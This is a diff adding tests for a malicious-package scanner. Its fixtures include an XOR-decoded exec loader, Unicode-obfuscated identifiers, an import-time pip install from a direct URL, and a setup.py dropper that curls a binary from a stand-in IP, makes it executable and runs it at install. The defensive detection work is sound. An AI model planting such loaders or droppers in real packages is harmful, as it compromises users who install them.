@@ -640,6 +640,104 @@ def test_download_exec_installer_fetch_when_called_is_not_malicious(tmp_path: Pa
     assert_quiet(result, "download-exec", not_verdict=Verdict.MALICIOUS, below=Severity.CRITICAL)
 
 
+FOLDED_IDENTIFIERS = """import os
+
+𝙩𝙖𝙧𝙜𝙚𝙩 = os.path.join("a", "b")
+print(𝙩𝙖𝙧𝙜𝙚𝙩)
+"""
+GREEK_IDENTIFIERS = """import math
+
+α = 0.5
+λ = math.log(2) / α
+"""
+
+
+def test_obfuscation_fires_for_identifiers_python_folds_to_ascii(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: FOLDED_IDENTIFIERS}), scanner)
+    found = assert_fires(result, "obfuscation", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+    assert any("'target'" in f.reason for f in found), describe(result)
+
+
+def test_obfuscation_benign_greek_identifiers(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: GREEK_IDENTIFIERS}), scanner)
+    assert_quiet(result, "obfuscation", below=Severity.MEDIUM)
+
+
+XOR_LOADER_LIBRARY = """import threading
+
+run = exec
+
+
+def _show():
+    blob = "\\x1d\\x00\\x1e\\x1d"
+    key = "1234"
+    text = ""
+    for i in range(len(blob)):
+        text += chr(ord(blob[i]) ^ ord(key[i % len(key)]))
+    run(text)
+
+
+def show():
+    threading.Thread(target=_show).start()
+"""
+XOR_MASK_MODULE = """def mask(data, key):
+    return "".join(chr(ord(c) ^ ord(key[i % len(key)])) for i, c in enumerate(data))
+"""
+EVAL_MODULE = """def evaluate(expression, env):
+    return eval(compile(expression, "<expr>", "eval"), env)
+"""
+
+
+def test_decode_exec_fires_for_xor_decrypted_exec(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/colors.py": XOR_LOADER_LIBRARY}), scanner)
+    assert_fires(result, "decode-exec", Verdict.SUSPICIOUS, severity=Severity.HIGH)
+
+
+def test_decode_exec_benign_xor_and_unrelated_eval_in_separate_files(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    files = {f"{DEFAULT_NAME}/mask.py": XOR_MASK_MODULE, f"{DEFAULT_NAME}/expr.py": EVAL_MODULE}
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_quiet(result, "decode-exec", not_verdict=Verdict.SUSPICIOUS)
+
+
+SHELL_DROPPER_SETUP = setup_py(
+    'script = "curl -s http://192.0.2.1/x -o /tmp/x; chmod +x /tmp/x; /tmp/x"\n'
+    'with open("/tmp/start.sh", "w") as handle:\n'
+    "    handle.write(script)\n"
+    'os.system("bash /tmp/start.sh")\n',
+    imports="import os\n",
+)
+
+
+def test_install_process_fires_for_written_shell_dropper(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, setup_py=SHELL_DROPPER_SETUP), scanner)
+    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+DIRECT_URL_INIT = (
+    "import os\nimport sys\n\n"
+    'os.system(f"{sys.executable} -m pip install https://files.example.invalid/pkgs/colorama-0.4.6.tar.gz")\n'
+)
+INDEX_INSTALL_HELPER = """import subprocess
+import sys
+
+
+def ensure(name):
+    subprocess.check_call([sys.executable, "-m", "pip", "install", name])
+"""
+
+
+def test_pip_install_runtime_fires_for_direct_url_at_import(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {INIT: DIRECT_URL_INIT}), scanner)
+    assert_fires(result, "pip-install-runtime", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_pip_install_runtime_benign_helper_when_called(tmp_path: Path, scanner: Scanner) -> None:
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/deps.py": INDEX_INSTALL_HELPER}), scanner)
+    assert_quiet(result, "pip-install-runtime", not_verdict=Verdict.SUSPICIOUS)
+
+
 def test_sabotage_fires(tmp_path: Path, scanner: Scanner) -> None:
     result = scan(write_sdist(tmp_path, {INIT: SABOTAGE_INIT}), scanner)
     assert_fires(result, "sabotage", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
